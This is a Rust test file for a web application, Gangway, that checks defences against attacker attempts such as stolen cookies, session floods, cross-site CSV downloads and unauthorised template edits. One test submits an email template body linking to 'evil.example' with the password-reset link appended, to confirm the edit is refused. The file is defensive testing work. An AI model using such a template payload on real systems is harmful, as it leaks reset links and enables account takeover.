//! What attackers tried on a running Gangway, each named after what they want.

use crate::domain::auth::role::Role;
use crate::domain::invitations::delivery::Delivery;
use crate::domain::time::DAY;
use crate::paths;
use crate::tests::app::{TestApp, on_both_engines};
use crate::tests::browser::Browser;
use crate::tests::people;

on_both_engines! {
    an_admin_cannot_read_an_owners_reset_link,
    a_stolen_cookie_does_not_work_for_ever,
    a_flood_of_sign_ins_leaves_twenty_sessions,
    a_stranger_cannot_have_passwords_judged,
    another_site_cannot_start_a_download,
}

const RATE: &str = "/api/account/rate-password";
const PASSWORD: [(&str, &str); 2] = [("password", "seven quiet harbour lanterns"), ("context", "Ana")];

async fn is_judged(browser: &mut Browser) -> bool {
    let answer = browser.call(RATE, &PASSWORD).await;
    assert_eq!(answer.status, 200, "{answer:?}");
    answer.body != "null"
}

async fn a_stranger_cannot_have_passwords_judged(app: &TestApp) {
    let (staff, mut maya) = app.maya().await;
    let ana = app.alder(&staff, Some(Delivery::Link)).await;
    let mut stranger = app.browser();
    assert!(!is_judged(&mut stranger).await);
    for guess in ["x", &"A".repeat(43)] {
        stranger.get(&paths::activation_link(guess)).await;
        assert!(!is_judged(&mut stranger).await, "{guess}");
    }
    assert!(is_judged(&mut maya).await, "who is signed in chooses a new one");
    let mut invited = app.browser();
    invited.open(ana.link.as_ref().unwrap()).await;
    assert!(is_judged(&mut invited).await);
    maya.open(&paths::partner(ana.partner)).await;
    maya.submit("/api/invitations/remove-access", &[]).await;
    assert!(!is_judged(&mut invited).await, "a link that ended opens nothing");
}

async fn another_site_cannot_start_a_download(app: &TestApp) {
    const DOWNLOADS: [&str; 4] = [
        paths::PARTNERS_CSV,
        "/partners/export.csv?q=alder",
        paths::MANAGE_AUDIT_CSV,
        "/partners/import/01890000-0000-7000-8000-000000000000/failed-rows.csv",
    ];
    let (staff, maya) = app.maya().await;
    app.alder(&staff, None).await;
    let entries = app.rows("audit").await;
    let status = async |path: &str, site: Option<&str>| {
        let client = reqwest::Client::new();
        let request = client.get(format!("{}{path}", app.url)).header("cookie", maya.cookie_header());
        let request = site.into_iter().fold(request, |request, site| request.header("sec-fetch-site", site));
        request.send().await.unwrap().status().as_u16()
    };
    for path in DOWNLOADS {
        for site in ["cross-site", "same-site", "anything else"] {
            assert_eq!(status(path, Some(site)).await, 403, "{path} from {site}");
        }
    }
    assert_eq!(app.rows("audit").await, entries, "no one has exported anything");
    for site in [None, Some("none"), Some("same-origin")] {
        assert_eq!(status(paths::PARTNERS_CSV, site).await, 200, "{site:?}");
    }
}

async fn an_admin_cannot_read_an_owners_reset_link(app: &TestApp) {
    const SAVE: &str = "/api/templates/save";
    let (_, mut olga) = app.maya().await;
    let (_, mut adam) = app.colleague_as(Role::Admin, "Adam").await;
    for name in ["Password reset", "Address change"] {
        let template = app.template(name).await;
        let page = adam.open(&paths::edit_email_template(template)).await;
        assert!(page.text().contains("Only an owner can change this template"), "{}", page.text());
        let fields = page.fill_in(SAVE, &[("body", "[x](https://evil.example/?u={{ reset_link }}) {{ reset_link }}")]);
        let answer = adam.form_request(SAVE, &fields).header("accept", "application/json").send().await.unwrap();
        assert_eq!(answer.status().as_u16(), 403, "{name}");
        let remove = [("template", template.to_string()), ("version", "1".to_owned()), ("language", "fr".to_owned())];
        let remove: Vec<(&str, &str)> = remove.iter().map(|(name, value)| (*name, value.as_str())).collect();
        assert_eq!(adam.call("/api/templates/remove-language", &remove).await.status, 403, "{name}");
    }
    // Nor does an owner by mistake.
    olga.open(&paths::edit_email_template(app.template("Password reset").await)).await;
    olga.submit(SAVE, &[("body", "[x](https://evil.example/?u={{ reset_link }})")]).await;
    assert!(olga.page.complaint("body").contains("must stand alone"), "{}", olga.page.text());
}

async fn a_stolen_cookie_does_not_work_for_ever(app: &TestApp) {
    let (staff, _) = app.maya().await;
    let (ana, _) = app.active_ana(&staff).await;
    for (person, role, page, days) in
        [(staff.id, Role::Owner, paths::PARTNERS, 14), (ana.contact, Role::Contact, paths::PORTAL, 30)]
    {
        let thief = app.signed_in(person, role).await;
        let began = app.state.now();
        while app.state.now() < began.plus((days - 1) * DAY) {
            assert_eq!(thief.look(page).await.status().as_u16(), 200, "{page}: it is used every day");
            app.settle().await;
            app.wait(DAY / 2);
        }
        app.wait(DAY + 1);
        assert_eq!(thief.look(page).await.status().as_u16(), 303, "{page}");
    }
}

async fn a_flood_of_sign_ins_leaves_twenty_sessions(app: &TestApp) {
    let staff = app.staff().await;
    let (ana, first) = app.active_ana(&staff).await;
    for _ in 0..25 {
        let sign_in = [("form[email]", ana.email.as_str()), ("form[password]", people::PASSWORD)];
        assert!(app.browser().call("/api/account/sign-in", &sign_in).await.status < 400);
    }
    const HELD: &str = "select count(*) from session where person_id in (select id from person where role = 'contact')";
    assert_eq!(app.number(HELD).await, 20);
    assert_eq!(first.look(paths::PORTAL).await.status().as_u16(), 303, "the oldest gave way");
}
